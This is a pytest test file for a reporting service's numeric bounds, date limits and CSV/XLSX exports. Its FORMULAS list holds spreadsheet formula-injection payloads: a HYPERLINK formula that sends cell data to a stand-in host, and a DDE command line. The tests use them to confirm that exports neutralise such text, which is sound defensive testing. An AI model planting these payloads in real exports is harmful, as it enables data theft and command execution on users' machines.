"""Bounded values: every accepted number keeps the roll-ups and exports working and exact,
exports carry no formulas, and a template's dates cannot make the job owe decades.

Issues 10.6, 11.3, 11.4 and 11.5.
"""
import base64
import csv
import io
from datetime import date

import openpyxl
import pytest
import sqlalchemy as sa

from kelisim.errors import Invalid
from services.reports.adapters import orm
from services.reports.domain.periods import kz_today
from services.reports.domain.templates import FieldSpec, Template
from services.reports.service_layer import analytics, reports, templates
from services.reports.service_layer.collection import LOOKBACK_DAYS
from tests.support import COORDINATOR
from tests.support_reports import mediation_template

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
            "@SUM(1+1)", "-2+3", "\tTAB", "\rCR"]


def money(raw):
    return FieldSpec("m", "money", "m", "m").parse(raw)


@pytest.mark.parametrize("raw", ["1e30", "1E+999999999", "-1E+999999999", "1E-999999999",
                                 "10000000000000", "9999999999999.999", "1.005", "0.005",
                                 "1.025", "Infinity", "NaN", "-0.01"])
def test_money_beyond_the_bounds_or_the_tiyn_is_refused_never_rounded(raw):
    with pytest.raises(ValueError):
        money(raw)


def test_money_within_the_bounds_is_kept_exactly():
    assert money("9999999999999.99") == "9999999999999.99"
    assert money("1.10") == "1.10" and money("1.100") == "1.10" and money("100") == "100.00"


# issue 11.4: a number sent as text is ASCII digits with an optional minus and decimal point
# only; Decimal() would take each of these (1000, 12, 1000, 5, 12 in Arabic-Indic digits)
NOT_PLAIN = ["1e3", "1E+2", " 12 ", "12\n", "1_000", "+5", "\u0661\u0662", "\uff11\uff12",
             ".5", "5.", "1,5", ""]


@pytest.mark.parametrize("kind", ["money", "decimal", "percent"])
@pytest.mark.parametrize("raw", NOT_PLAIN)
def test_numbers_as_text_take_plain_ascii_digits_only(kind, raw):
    with pytest.raises(ValueError):
        FieldSpec("x", kind, "x", "x").parse(raw)


@pytest.mark.parametrize("raw", ["1000", "١٢", 12.5, True])
def test_integer_fields_take_json_whole_numbers_only(raw):
    with pytest.raises(ValueError):
        FieldSpec("x", "integer", "x", "x").parse(raw)


@pytest.mark.parametrize("kind, raw", [("integer", 10**30), ("integer", -(10**15)),
                                       ("decimal", "1e30"), ("decimal", "1E+999999999"),
                                       ("decimal", "0.1234567"), ("decimal", "1E-999999999"),
                                       ("percent", "50.005")])
def test_other_numbers_are_bounded_too(kind, raw):
    with pytest.raises(ValueError):
        FieldSpec("x", kind, "x", "x").parse(raw)


def test_numbers_at_the_bounds_are_accepted():
    assert FieldSpec("x", "integer", "x", "x").parse(10**15 - 1) == 10**15 - 1
    assert FieldSpec("x", "decimal", "x", "x").parse("-999999999999999.999999") == \
        "-999999999999999.999999"
    assert FieldSpec("x", "decimal", "x", "x").parse("2.5000000") == "2.500000"


def test_a_report_with_a_huge_value_is_refused_naming_the_field(uow, template, collect):
    template(active_from=kz_today().replace(day=1).isoformat())
    collect()
    [report] = reports.list_reports(uow(), {"region": "KZ-61"})["items"]
    for values in ({"budget_spent": "1e30"}, {"budget_spent": "1E+999999999"},
                   {"budget_spent": "1.005"}, {"cases_received": 10**30}):
        with pytest.raises(Invalid) as refused:
            reports.save_report(uow(COORDINATOR), report["id"], {"version": 1,
                                                                 "values": values})
        assert set(refused.value.errors) == set(values)
    assert reports.get_report(uow(), report["id"])["version"] == 1


def store(uow, report_id, values):
    """Values as an older version of the platform accepted them, written directly."""
    with uow() as work:
        work.session.execute(sa.update(orm.reports).where(orm.reports.c.id == report_id)
                             .values(values=values, status="submitted"))
        work.commit()


def test_the_rollup_and_exports_hold_any_value_accepted_before(uow, template, collect):
    template(active_from=kz_today().replace(day=1).isoformat())
    collect()
    listed = reports.list_reports(uow(), {"limit": 50})["items"]
    by_region = {r["region_code"]: r["id"] for r in listed}
    store(uow, by_region["KZ-61"], {"cases_received": 10**30, "budget_spent": "0.01"})
    store(uow, by_region["KZ-75"], {"cases_received": 7, "budget_spent": "a typo",
                                    "resolved_by_mediation": "1E+999999"})
    query = {"template": "mediation-test"}
    rollup = analytics.rollup(uow(), query)
    national = rollup["national"]["fields"]
    assert national["cases_received"]["sum"] == str(10**30 + 7)
    assert national["cases_received"]["avg"] == str((10**30 + 7) // 2) + ".50"
    assert national["budget_spent"]["count"] == 1  # the text is left out, not an error
    assert national["resolved_by_mediation"]["max"] == "1E+999999"
    for fmt in ("csv", "xlsx"):
        assert analytics.export_rollup(uow(), dict(query, format=fmt))["content"]


def labelled_template(uow):
    fields = [{"code": f"f{i}", "type": "money", "label_kk": label, "label_ru": label}
              for i, label in enumerate(FORMULAS)]
    fields.append({"code": "loss", "type": "decimal", "label_kk": "Шығын", "label_ru": "Убыток"})
    templates.create_template(uow(), mediation_template(
        code="formulas", fields=fields, rules=[],
        active_from=kz_today().replace(day=1).isoformat()))


def exported(uow, fmt):
    data = analytics.export_rollup(uow(), {"template": "formulas", "format": fmt, "lang": "en"})
    return base64.b64decode(data["content"])


def national_rows(uow):
    """The national rows of the XLSX, in field order: [group, label, reports, count, sum,
    avg, min, max] cells; and every text cell of the sheet."""
    sheet = openpyxl.load_workbook(io.BytesIO(exported(uow, "xlsx"))).worksheets[0]
    rows = [row for row in sheet.iter_rows() if row[0].value == "Kazakhstan (national total)"]
    return rows, [cell for row in sheet.iter_rows() for cell in row
                  if isinstance(cell.value, str)]


def test_exports_show_formula_like_text_as_text_and_numbers_as_numbers(uow, collect):
    labelled_template(uow)
    collect()
    [report] = reports.list_reports(uow(), {"region": "KZ-61", "template": "formulas"})["items"]
    reports.submit_report(uow(), report["id"], {"version": 1, "values": {
        "f0": "9999999999999.99", "f1": "0.01", "loss": "-5.5"}})

    text = exported(uow, "csv").decode("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(text)))
    labels = {r["field"]: r["label_kk"] for r in table if r["group"] == "national"}
    assert [labels[f"f{i}"] for i in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]
    national = {r["field"]: r for r in table if r["group"] == "national"}
    assert national["loss"]["sum"] == "-5.5" and national["loss"]["label_ru"] == "Убыток"

    rows, texts = national_rows(uow)
    assert all(cell.data_type == "s" for cell in texts)  # string cells, never formulas
    for row, label in zip(rows, FORMULAS, strict=False):
        assert row[1].data_type == "s"
        assert row[1].value.strip() == label.strip()  # XML keeps a lone CR as a line feed
    f0, loss = rows[0], rows[-1]
    assert f0[4].value == 9999999999999.99 and f0[4].data_type == "n"
    assert loss[4].value == -5.5 and loss[4].data_type == "n"


def test_a_figure_beyond_what_a_double_holds_is_written_as_exact_text(uow, collect):
    labelled_template(uow)
    collect()
    listed = reports.list_reports(uow(), {"template": "formulas", "limit": 50})["items"]
    for report in listed[:3]:
        reports.submit_report(uow(), report["id"], {"version": 1, "values": {
            "f0": "9999999999999.99", "loss": "123456789012345.67"}})
    rows, _texts = national_rows(uow)
    f0, loss = rows[0], rows[-1]
    assert f0[4].value == "29999999999999.97"  # 16 digits: text, every tiyn kept
    assert f0[6].value == 9999999999999.99  # the minimum: 15 digits, a number
    assert loss[4].value == "370370367037037.01"


@pytest.mark.parametrize("day", ["0001-01-01", "2019-12-31", "2041-01-01", "9999-12-31"])
def test_template_dates_stay_within_the_platform_calendar(uow, day):
    for name in ("active_from", "active_until"):
        with pytest.raises(Invalid) as refused:
            templates.create_template(uow(), mediation_template(**{name: day}))
        assert name in refused.value.errors
    with pytest.raises(Invalid) as refused:  # the domain rule too, whatever the caller
        Template(**dict(mediation_template(), active_from=date.fromisoformat(day))).check()
    assert "active_from" in refused.value.errors


def test_a_run_owes_only_the_periods_of_its_look_back_window(uow, template, collect, rows):
    made = template(period_type="monthly", active_from="2020-01-01")
    with uow() as work:  # as an older version stored it: active from year 1
        work.session.execute(sa.update(orm.report_templates).where(orm.report_templates.c.id == made["id"])
                             .values(active_from=date(1, 1, 1)))
        work.commit()
    today = date(2026, 11, 21)
    created = collect(today)["obligations_created"]
    periods = {r["period"] for r in rows(orm.reports)}
    # the months that ended within LOOKBACK_DAYS, and the current one
    assert min(periods) == "2025-11" and max(periods) == "2026-11" and LOOKBACK_DAYS == 366
    assert created == 20 * 13


@pytest.mark.parametrize("period", ["9999", "9999-Q4", "9999-H2", "9999-12", "0000",
                                    "0000-Q1", "1899-12"])
def test_a_period_beyond_the_dates_kept_is_a_422_naming_it(uow, period):
    """Was a 500 (ValueError: year 10000 is out of range, or year 0) from GET /events,
    /events/stats and /reporting-rates: a period's end is the day before the next one
    starts. Periods are bounded as dates are, 1900..9998."""
    from services.reports.service_layer import register

    for call, query in ((register.list_events, {"period": period}),
                        (register.event_stats, {"period": period}),
                        (analytics.reporting_rates, {"from": period, "to": period})):
        with pytest.raises(Invalid) as refused:
            call(uow(), query)
        field = "period" if "period" in query else "from"
        assert set(refused.value.errors_in("ru")) == {field} | (
            {"to"} if field == "from" else set()), refused.value.errors_in("en")
    assert register.event_stats(uow(), {"period": "9998-Q4"})["total"]["events"] == 0
